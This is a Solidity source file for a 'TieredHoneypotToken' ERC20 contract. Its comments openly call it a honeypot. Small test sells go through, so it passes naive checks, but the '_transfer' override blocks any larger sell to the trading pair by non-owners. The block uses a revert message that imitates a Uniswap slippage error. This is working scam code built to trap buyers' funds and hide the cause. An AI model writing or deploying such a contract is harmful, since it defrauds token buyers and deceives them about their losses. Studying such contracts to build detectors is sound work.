// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./lib/ERC20Core.sol";
import "./lib/Owned.sol";

/// A honeypot that passes a naive check: small sells go through, so a test sell of a few
/// tokens succeeds, but any sell above `sellCeiling` tokens reverts for everyone but the owner.
contract TieredHoneypotToken is ERC20, PairAware {
    uint256 public sellCeiling;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 ceiling) {
        _setMetadata(name_, symbol_);
        _setOwner(msg.sender);
        sellCeiling = ceiling;
        _mint(msg.sender, supply);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && pair != address(0) && from != _owner) {
            // Looks like a slippage failure to anyone reading the revert.
            require(amount <= sellCeiling, "UniswapV2: K");
        }
        super._transfer(from, to, amount);
    }
}
